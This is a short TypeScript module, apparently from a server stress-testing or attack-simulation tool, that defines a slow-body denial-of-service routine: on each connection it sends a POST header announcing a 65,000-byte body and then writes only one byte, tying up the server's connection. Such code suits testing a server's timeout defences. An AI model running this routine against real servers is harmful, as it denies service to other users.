import { type AttackOptions, head, onEachConnection } from "./attack.ts";

/** Announces a body of 65,000 bytes and sends one byte. */
export function idleBodies(options: AttackOptions): Promise<void> {
  const { path = "/mutate" } = options;
  return onEachConnection(
    options,
    (socket) => void socket.write(`${head(`POST ${path}`, ["Content-Length: 65000"])}{`),
  );
}
